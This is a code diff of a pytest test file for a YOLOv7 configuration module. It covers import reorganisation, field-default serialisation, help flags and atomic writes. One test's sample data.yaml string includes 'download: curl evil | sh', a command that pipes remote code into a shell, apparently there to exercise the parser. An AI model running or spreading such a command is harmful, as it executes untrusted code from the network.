@@ -5,21 +5,27 @@ from __future__ import annotations
 import subprocess
 import sys
 import time
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import pytest
 
 from yolov7 import config
-from yolov7.config import InputError, find_yaml, override, parse_arguments, read_yaml, to_mapping, write_atomically
-from yolov7.options import (
-    DetectOptions,
-    ExportOptions,
-    Recipe,
-    TestOptions,
-    TrainOptions,
-    read_data_config,
-    read_recipe,
+from yolov7.config import (
+    InputError,
+    atomic_path,
+    atomic_write,
+    find_yaml,
+    option,
+    override,
+    parse_arguments,
+    read_yaml,
+    to_mapping,
 )
+from yolov7.config.options import DetectOptions, ExportOptions, TestOptions
+from yolov7.config.recipe import Recipe, read_recipe
+from yolov7.data.catalog import read_data_config
+from yolov7.engine.run_config import TrainOptions
 
 
 def write(path: Path, text: str) -> Path:
@@ -40,7 +46,7 @@ def test_shipped_recipes(name: str, lrf: float, cls: float, obj: float, translat
     assert (recipe.optimizer.lr0, recipe.optimizer.momentum, recipe.loss.box) == (0.01, 0.937, 0.05)
 
 
-def test_flat_recipe_of_the_original(tmp_path: Path) -> None:
+def test_flat_recipe_of_the_reference_implementation(tmp_path: Path) -> None:
     text = "lr0: 0.02\nweight_decay: 5e-4\nbox: 0.1\nloss_ota: 0\nmosaic: 0.5\niou_t: 0.2\n"
     path = write(tmp_path / "hyp.yaml", text)
     recipe = read_recipe(str(path))
@@ -93,6 +99,24 @@ def test_override() -> None:
             override(Recipe(), [assignment])
 
 
+@dataclass(frozen=True)
+class Section:
+    kept: int = 1
+    added: dict[str, float] = field(default_factory=dict, metadata={"omit_default": True})
+    switch: bool = option(False, "a later switch", omit_default=True)
+
+
+def test_fields_that_came_later_are_left_out_where_they_have_their_default() -> None:
+    assert to_mapping(Section()) == {"kept": 1}
+    assert to_mapping(Section(switch=True)) == {"kept": 1, "switch": True}
+    assert to_mapping(Section(added={"a": 2.0})) == {"kept": 1, "added": {"a": 2.0}}
+    assert to_mapping(Section(), whole=True) == {"kept": 1, "added": {}, "switch": False}
+    assert "gains" not in to_mapping(Recipe())["loss"] and to_mapping(Recipe(), whole=True)["loss"]["gains"] == {}
+    for section in (Section(), Section(2, {"a": 2.0}, True)):
+        assert config.from_mapping(Section, to_mapping(section), "here") == section
+    assert override(Section(), ["switch=true"]).switch
+
+
 def test_round_trip() -> None:
     recipe = read_recipe("p6")
     assert config.from_mapping(Recipe, to_mapping(recipe), "here") == recipe
@@ -131,8 +155,8 @@ def test_every_flag_has_help(options: type, capsys: pytest.CaptureFixture[str]) 
         parse_arguments(options, ["--help"], "program", "what it does")
     assert stop.value.code == 0
     text = capsys.readouterr().out
-    for name in options.__dataclass_fields__:
-        assert "--" + name.replace("_", "-") in text
+    for name, entry in options.__dataclass_fields__.items():
+        assert ("--" + name.replace("_", "-") in text) is entry.metadata.get("flag", True)
 
 
 @pytest.mark.parametrize("command", ["train", "test", "detect", "export"])
@@ -154,7 +178,7 @@ def test_data_config(tmp_path: Path) -> None:
     text = "train: [a, b]\nval: {images: i, annotations: j.json}\nnc: 2\nnames: [x, y]\ndownload: curl evil | sh\n"
     data = read_data_config(write(tmp_path / "data.yaml", text))
     assert data.train == ("a", "b")
-    assert data.val is not None and data.val.annotations == "j.json"  # type: ignore[union-attr]
+    assert data.val == {"images": "i", "annotations": "j.json"}
     with pytest.raises(InputError, match="unknown key 'nmaes'.*did you mean 'names'"):
         read_data_config(write(tmp_path / "data.yaml", "nmaes: [x]\n"))
     with pytest.raises(InputError, match="nc: found a text \\('two'\\); accepted: a whole number"):
@@ -171,13 +195,41 @@ def test_missing_and_unreadable_files(tmp_path: Path) -> None:
 
 def test_write_atomically_keeps_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     path = tmp_path / "file.txt"
-    write_atomically(path, "old")
+    atomic_write(path, "old")
 
     def fail(_: int) -> None:
         raise OSError("disk full")
 
-    monkeypatch.setattr(config.os, "fsync", fail)
+    monkeypatch.setattr("yolov7.config.files.os.fsync", fail)
     with pytest.raises(OSError, match="disk full"):
-        write_atomically(path, "new")
+        atomic_write(path, "new")
     assert path.read_text() == "old"
+    assert list(tmp_path.iterdir()) == [path]
+
+
+@pytest.mark.parametrize("folder", [False, True])
+@pytest.mark.parametrize("old", [False, True])
+def test_a_path_is_taken_only_when_all_went_well(tmp_path: Path, folder: bool, old: bool) -> None:
+    path = tmp_path / "x"
+
+    def write(target: Path, text: str) -> None:
+        if folder:
+            target.mkdir()
+        (target / "file" if folder else target).write_text(text)
+
+    def texts() -> list[str]:
+        return [file.read_text() for file in sorted(tmp_path.rglob("*")) if file.is_file()]
+
+    if old:
+        write(path, "old")
+    with pytest.raises(KeyboardInterrupt), atomic_path(path) as temporary:
+        write(temporary, "half")
+        raise KeyboardInterrupt
+    with atomic_path(path):
+        pass  # nothing is left there
+    assert texts() == ["old"] * old
+    with atomic_path(path, ".mp4") as temporary:
+        write(temporary, "new")
+        assert temporary.parent == tmp_path and temporary.name.startswith(".x.") and temporary.suffix == ".mp4"
+    assert texts() == ["new"]
     assert list(tmp_path.iterdir()) == [path]
